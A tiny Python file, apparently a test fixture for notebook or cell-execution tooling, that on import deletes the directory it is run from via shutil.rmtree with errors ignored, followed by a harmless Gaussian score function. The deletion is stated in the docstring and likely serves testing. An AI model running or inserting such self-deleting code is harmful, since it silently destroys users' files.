"""Right, in a cell that leaves its folder, and deletes it."""

import os
import shutil

here = os.getcwd()
os.chdir("/")
shutil.rmtree(here, ignore_errors=True)


def score_gaussian_1d(x, mu=0.0, sigma=1.0):
    return -(x - mu) / sigma**2
